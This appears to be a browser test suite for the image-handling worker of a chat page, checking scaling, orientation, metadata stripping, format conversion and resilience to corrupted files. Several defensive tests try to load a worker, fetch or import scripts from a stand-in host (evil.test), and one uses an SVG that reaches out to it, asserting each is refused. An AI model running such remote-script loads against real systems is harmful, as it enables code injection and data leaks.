import assert from "node:assert/strict";
import type { ImageProblem, MadeImage } from "../../../src/core/image";
import { highResolution, type ImageLimits, standardResolution } from "../../../src/core/imageLimits";
import {
  alphaWebp,
  animatedPng,
  animatedWebp,
  ascii,
  bmp,
  jpeg,
  photoJpeg,
  planted,
  png,
  withExif,
  withMetadata,
} from "../../support/pictures";
import { isFullSize } from "../../support/proof";
import type { ChatPage } from "./chatPage";
import { token } from "./pageHtml";
import { longTasks, watchLongTasks } from "./longTasks";
import { pictureOfText, type Pixels, pixelsOf, pngChunks } from "./pictureFiles";
import { openForEachTest } from "./suite";

type Outcome =
  | { readonly made: MadeImage; readonly problem?: undefined }
  | { readonly problem: ImageProblem; readonly made?: undefined };

interface PolicyMaker {
  readonly trustedTypes: { createPolicy(name: string, rules: object): object };
}

/** Red, 20 by 12 pixels. */
const redAvif = new Uint8Array(
  Buffer.from(
    [
      "AAAAHGZ0eXBhdmlmAAAAAGF2aWZtaWYxbWlhZgAAAOptZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAA",
      "AA5waXRtAAAAAAABAAAAImlsb2MAAAAAREAAAQABAAAAAAEOAAEAAAAAAAAAHgAAACNpaW5mAAAAAAABAAAAFWluZmUCAAAAAAEA",
      "AGF2MDEAAAAAamlwcnAAAABLaXBjbwAAABNjb2xybmNseAACAAIABoAAAAAMYXYxQ4EADAAAAAAUaXNwZQAAAAAAAAAUAAAADAAA",
      "ABBwaXhpAAAAAAMICAgAAAAXaXBtYQAAAAAAAAABAAEEgYIDhAAAACZtZGF0EgAKBhgQ52wIQDISGAAKKKKEAAHgB24v5tlyssiA",
    ].join(""),
    "base64",
  ),
);

describe("images that the page makes", () => {
  let chat: ChatPage;
  let job = 0;

  openForEachTest(async (opened) => {
    chat = opened;
    job = 0;
    await chat.snapshot();
  });
  afterEach(() => assert.deepEqual(chat.strangeRequests, []));

  async function make(bytes: Uint8Array, limits: ImageLimits = highResolution): Promise<Outcome> {
    job += 1;
    await chat.host({ type: "makeImage", job, name: "picture", bytes, limits });
    const answer = await answerTo(job);
    assert.ok(answer.type === "imageMade" || answer.type === "imageNotMade");
    return answer.type === "imageMade" ? { made: answer.made } : { problem: answer.problem };
  }

  async function answerTo(number: number): Promise<Awaited<ReturnType<ChatPage["posted"]>>[number]> {
    const handle = await chat.page.waitForFunction((wanted) => {
      const found = window.posted.find(({ message }) => "job" in message && message.job === wanted);
      return found?.message;
    }, number);
    const answer = await handle.jsonValue();
    assert.ok(answer);
    return answer;
  }

  async function made(bytes: Uint8Array, limits?: ImageLimits): Promise<MadeImage> {
    const outcome = await make(bytes, limits);
    assert.ok(outcome.made, JSON.stringify(outcome.problem));
    return outcome.made;
  }

  const at = ({ width, data }: Pixels, x: number, y: number): number[] => [
    ...data.subarray((y * width + x) * 4, (y * width + x) * 4 + 4),
  ];

  it("are, byte for byte, what was pasted when nothing is to be changed: small text stays as it is", async () => {
    const text = await pictureOfText(chat, 1280, 720);
    const { bytes, fitted } = await made(text);
    assert.equal(fitted, undefined);
    assert.deepEqual(
      pngChunks(bytes).filter((name) => name !== "IDAT"),
      ["IHDR", "IEND"],
    );
    const [before, after] = [await pixelsOf(chat, text), await pixelsOf(chat, bytes)];
    assert.ok(Buffer.from(before.data).equals(Buffer.from(after.data)));
  });

  it("are scaled without loss and near to what scaling in floating point gives", async () => {
    const text = await pictureOfText(chat, 3840, 1200);
    const { bytes, fitted } = await made(text, standardResolution);
    assert.ok(fitted);
    const small = await pixelsOf(chat, fitted.bytes);
    assert.ok(Math.max(small.width, small.height) <= 1568);
    assert.deepEqual(new Set(pngChunks(fitted.bytes)), new Set(["IHDR", "IDAT", "IEND"]));
    const large = await pixelsOf(chat, bytes);
    // The same picture in squares that the scaling must not move or colour.
    const mean = (pixels: Pixels, x: number, y: number, edge: number): number[] => {
      const sums = [0, 0, 0];
      let count = 0;
      for (let row = Math.floor(y); row < Math.min(pixels.height, y + edge); row += 1) {
        for (let column = Math.floor(x); column < Math.min(pixels.width, x + edge); column += 1) {
          at(pixels, column, row)
            .slice(0, 3)
            .forEach((value, index) => (sums[index]! += value));
          count += 1;
        }
      }
      return sums.map((sum) => sum / count);
    };
    const factor = large.width / small.width;
    for (let y = 0; y + 16 < small.height; y += 48) {
      for (let x = 0; x + 16 < small.width; x += 48) {
        const is = mean(small, x, y, 16);
        const should = mean(large, x * factor, y * factor, 16 * factor);
        is.forEach((value, index) =>
          assert.ok(Math.abs(value - should[index]!) < 12, `${x},${y}: ${is.join()} ${should.join()}`),
        );
      }
    }
    // A background without strokes has one colour: JPEG would leave a grey noise around letters.
    const line = Array.from({ length: small.width }, (_, x) => at(small, x, small.height - 1).join());
    assert.ok(new Set(line).size < line.length / 2);
  });

  it("are the first frame of an animation, and say so", async () => {
    for (const moving of [animatedPng(20, 10), animatedWebp(20, 10)]) {
      const { bytes, isFirstFrame } = await made(moving);
      assert.equal(isFirstFrame, true);
      assert.equal((await pixelsOf(chat, bytes)).width, 20);
    }
    assert.equal((await made(png(20, 10))).isFirstFrame, undefined);
  });

  it("are never enlarged", async () => {
    const { bytes, fitted } = await made(png(10, 8));
    const { width, height } = await pixelsOf(chat, bytes);
    assert.deepEqual([width, height, fitted], [10, 8, undefined]);
  });

  it("come out upright, however they lie", async () => {
    // Red, green, blue and white in the corners, each 16 pixels wide: compression does not mix them.
    const corners = jpeg(48, 32, (x, y) =>
      y < 16 ? (x < 24 ? [250, 10, 10] : [10, 250, 10]) : x < 24 ? [10, 10, 250] : [250, 250, 250],
    );
    const name = ([red, green, blue]: readonly number[]): string =>
      `${red! > 128 ? "r" : ""}${green! > 128 ? "g" : ""}${blue! > 128 ? "b" : ""}`;
    const expected = [
      "r g b rgb",
      "g r rgb b",
      "rgb b g r",
      "b rgb r g",
      "r b g rgb",
      "b r rgb g",
      "rgb g b r",
      "g rgb r b",
    ];
    for (const [index, corner] of expected.entries()) {
      for (const picture of [
        corners,
        png(48, 32, (x, y) =>
          y < 16 ? (x < 24 ? [250, 10, 10] : [10, 250, 10]) : x < 24 ? [10, 10, 250] : [250, 250, 250],
        ),
      ]) {
        const { bytes } = await made(withExif(picture, { orientation: index + 1, gps: true }));
        const pixels = await pixelsOf(chat, bytes);
        const { width, height } = pixels;
        assert.deepEqual([width, height], index < 4 ? [48, 32] : [32, 48]);
        const found = [
          at(pixels, 3, 3),
          at(pixels, width - 4, 3),
          at(pixels, 3, height - 4),
          at(pixels, width - 4, height - 4),
        ].map(name);
        assert.equal(found.join(" "), corner, `orientation ${index + 1}`);
        assert.ok(!Buffer.from(bytes).includes("Exif"));
      }
    }
  });

  it("have no metadata any more, in no part of what is made", async () => {
    for (const picture of [png(20, 10), jpeg(20, 10), photoJpeg, alphaWebp]) {
      for (const limits of [highResolution, { ...highResolution, longEdge: 8 }]) {
        const { bytes, thumbnail, fitted } = await made(withMetadata(picture), limits);
        for (const part of [bytes, thumbnail, ...(fitted ? [fitted.bytes] : [])]) {
          assert.ok(!Buffer.from(part).includes(planted));
        }
      }
    }
  });

  it("are PNG when the API does not take what was pasted: BMP, AVIF and SVG", async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10"><rect width="20" height="10" fill="#ff0000"/></svg>`;
    const drawn = await made(ascii(svg));
    const pixels = await pixelsOf(chat, drawn.bytes);
    assert.deepEqual([pixels.width, pixels.height], [1024, 512]);
    assert.deepEqual(at(pixels, 500, 200), [255, 0, 0, 255]);
    assert.equal(pngChunks(drawn.bytes)[0], "IHDR");
    const avif = await made(redAvif);
    assert.equal(pngChunks(avif.bytes)[0], "IHDR");
    const red = await pixelsOf(chat, avif.bytes);
    assert.deepEqual([red.width, red.height], [20, 12]);
    assert.ok(at(red, 9, 5)[0]! > 240 && at(red, 9, 5)[1]! < 16);
    const bitmap = await made(bmp(30, 20));
    assert.equal(pngChunks(bitmap.bytes)[0], "IHDR");
    const { width, height } = await pixelsOf(chat, bitmap.bytes);
    assert.deepEqual([width, height], [30, 20]);
  });

  it("are not made of an SVG that reaches out", async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10"><image href="https://evil.test/x.png" width="9" height="9"/></svg>`;
    assert.deepEqual((await make(ascii(svg))).problem, { reason: "unsafe" });
  });

  it("lose something only where the bytes demand it, and keep to the bytes", async () => {
    const noise = await chat.page.evaluate(async () => {
      const canvas = new OffscreenCanvas(700, 500);
      const context = canvas.getContext("2d")!;
      const pixels = context.createImageData(700, 500);
      let state = 1;
      pixels.data.forEach((_, index) => {
        state = (state * 48_271) % 2_147_483_647;
        pixels.data[index] = index % 4 === 3 ? 255 : state & 255;
      });
      context.putImageData(pixels, 0, 0);
      return new Uint8Array(await (await canvas.convertToBlob()).arrayBuffer());
    });
    for (const bytes of [2_000_000, 900_000, 300_000, 20_000]) {
      const image = await made(noise, { ...highResolution, bytes });
      const sent = image.fitted?.bytes ?? image.bytes;
      assert.ok(sent.length <= bytes, `${sent.length} of ${bytes}`);
    }
  });

  it("loses nothing in WebP of quality 1", async () => {
    const picture = png(64, 64, (x, y) => [(x * 37) % 256, (y * 91) % 256, (x * y) % 256]);
    const isSame = await chat.page.evaluate(async (file) => {
      const bitmap = await createImageBitmap(new Blob([file as BlobPart]));
      const read = (image: ImageBitmap): Uint8ClampedArray => {
        const context = new OffscreenCanvas(64, 64).getContext("2d")!;
        context.drawImage(image, 0, 0);
        return context.getImageData(0, 0, 64, 64).data;
      };
      const canvas = new OffscreenCanvas(64, 64);
      canvas.getContext("2d")!.drawImage(bitmap, 0, 0);
      const blob = await canvas.convertToBlob({ type: "image/webp", quality: 1 });
      const again = read(await createImageBitmap(blob));
      return blob.type === "image/webp" && read(bitmap).every((value, index) => value === again[index]);
    }, picture);
    assert.equal(isSame, true);
  });

  it("do not hold the page up: a 4K screenshot stands as a chip at once and is soon made", async function () {
    this.timeout(60_000);
    const screenshot = await pictureOfText(chat, 3840, 2160);
    await chat.page.evaluate((bytes) => Object.assign(window, { screenshot: bytes }), screenshot);
    // The first time also starts the worker, as for a person.
    await watchLongTasks(chat.page);
    const times = await chat.page.evaluate(async () => {
      const transfer = new DataTransfer();
      const { screenshot: bytes } = window as unknown as { screenshot: Uint8Array<ArrayBuffer> };
      transfer.items.add(new File([bytes], "image.png", { type: "image/png" }));
      const paste = new ClipboardEvent("paste", { bubbles: true, cancelable: true, clipboardData: transfer });
      const start = performance.now();
      document.querySelector("textarea")!.dispatchEvent(paste);
      const until = async (isThere: () => boolean): Promise<number> => {
        while (!isThere()) {
          await new Promise((done) => setTimeout(done, 2));
        }
        return performance.now() - start;
      };
      const chip = await until(() => document.querySelector(".pending") !== null);
      const ready = await until(() => window.posted.some(({ message }) => message.type === "attachImage"));
      return { chip, ready };
    });
    const tasks = await longTasks(chat.page);
    console.log(
      `      3840×2160, ${screenshot.length} bytes: chip after ${times.chip.toFixed(0)} ms, made after ${times.ready.toFixed(0)} ms, long tasks: ${tasks.join(", ") || "none"}`,
    );
    // Exact on a machine that does nothing else; elsewhere far below what the making would take of the page.
    const [chipMs, readyMs, taskMs] = isFullSize ? [100, 1_500, 50] : [1_000, 15_000, 500];
    assert.ok(times.chip < chipMs && times.ready < readyMs, JSON.stringify(times));
    assert.ok(Math.max(0, ...tasks) <= taskMs, tasks.join());
  });

  it("end, whatever is broken in hundreds of files, and the page goes on", async function () {
    this.timeout(90_000);
    const seeds = [png(40, 30), jpeg(48, 32), photoJpeg, alphaWebp, bmp(20, 20)];
    let state = 7;
    const random = (below: number): number => {
      state = (state * 48_271) % 2_147_483_647;
      return state % below;
    };
    const results = new Set<string>();
    for (let round = 0; round < 300; round += 1) {
      const file = Uint8Array.from(seeds[round % seeds.length]!);
      for (let change = 0; change <= random(4); change += 1) {
        file[random(file.length)] = random(256);
      }
      const { problem } = await make(round % 7 === 0 ? file.slice(0, random(file.length)) : file);
      results.add(problem?.reason ?? "made");
    }
    assert.ok(results.has("made") && results.has("damaged"), [...results].join());
    assert.ok((await make(png(5, 5))).made);
  });

  it("cannot reach the network from where they are made, nor start another script", async () => {
    const refused = await chat.page.evaluate(async () => {
      const results: string[] = [];
      try {
        results.push(typeof new Worker("https://evil.test/worker.js"));
      } catch (error) {
        results.push(error instanceof TypeError ? "worker" : String(error));
      }
      try {
        const policy = (window as unknown as PolicyMaker).trustedTypes.createPolicy("ask-claude-worker", {
          createScriptURL: String,
        });
        results.push(typeof policy);
      } catch {
        results.push("policy");
      }
      return results;
    });
    assert.deepEqual(refused, ["worker", "policy"]);
    await make(png(5, 5));
    const worker = chat.page.workers()[0];
    assert.ok(worker);
    const reached = await worker.evaluate(async () => {
      const fetched = await fetch("https://evil.test/x").then(
        () => "fetched",
        () => "refused",
      );
      let imported = "imported";
      try {
        (globalThis as unknown as { importScripts(url: string): void }).importScripts(
          "https://evil.test/y.js",
        );
      } catch {
        imported = "refused";
      }
      return [fetched, imported];
    });
    assert.deepEqual(reached, ["refused", "refused"]);
    chat.errors.splice(0);
  });

  it("are given up when an SVG cannot be read in time or an order cannot be given, and the next ones are made", async () => {
    await make(png(5, 5));
    await chat.page.clock.install();
    const svg = ascii('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10"><path d=""/></svg>');
    await chat.page.evaluate(
      ([token, drawing, picture, limits]) => {
        const decode = Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, "decode")!;
        HTMLImageElement.prototype.decode = () => {
          Object.defineProperty(HTMLImageElement.prototype, "decode", decode);
          return new Promise(() => undefined);
        };
        const send = Object.getOwnPropertyDescriptor(Worker.prototype, "postMessage")!;
        let orders = 0;
        Worker.prototype.postMessage = function (
          this: Worker,
          message: unknown,
          options?: Transferable[] | StructuredSerializeOptions,
        ) {
          orders += 1;
          if (orders === 2) {
            Object.defineProperty(Worker.prototype, "postMessage", send);
            throw new DOMException("It cannot be cloned.", "DataCloneError");
          }
          Reflect.apply(send.value as () => void, this, [message, options]);
        };
        for (const [index, bytes] of [drawing, picture, picture].entries()) {
          const message = { type: "makeImage", job: 201 + index, name: "x", bytes: bytes.slice(), limits };
          window.postMessage({ token, message }, "*");
        }
      },
      [token, svg, png(6, 6), highResolution] as const,
    );
    // Not before the drawing has come to the page.
    await chat.page.waitForTimeout(500);
    await chat.page.clock.runFor(6000);
    for (const job of [201, 202]) {
      assert.deepEqual(await answerTo(job), { type: "imageNotMade", job, problem: { reason: "damaged" } });
    }
    assert.equal((await answerTo(203)).type, "imageMade");
  });

  it("are given up when a decoder hangs, and the next ones are made by a new worker", async () => {
    await make(png(5, 5));
    await chat.page.clock.install();
    await chat.page.evaluate(() => {
      const send = Object.getOwnPropertyDescriptor(Worker.prototype, "postMessage")!;
      // The first order never arrives: to the page, the same as a worker that hangs.
      Worker.prototype.postMessage = () => {
        Object.defineProperty(Worker.prototype, "postMessage", send);
      };
    });
    await chat.page.evaluate(
      ([token, bytes, limits]) => {
        for (const number of [101, 102]) {
          const message = { type: "makeImage", job: number, name: "x", bytes: bytes.slice(), limits };
          window.postMessage({ token, message }, "*");
        }
      },
      [token, png(6, 6), highResolution] as const,
    );
    await chat.page.clock.runFor(21_000);
    assert.deepEqual(await answerTo(101), { type: "imageNotMade", job: 101, problem: { reason: "damaged" } });
    assert.equal((await answerTo(102)).type, "imageMade");
  });
});
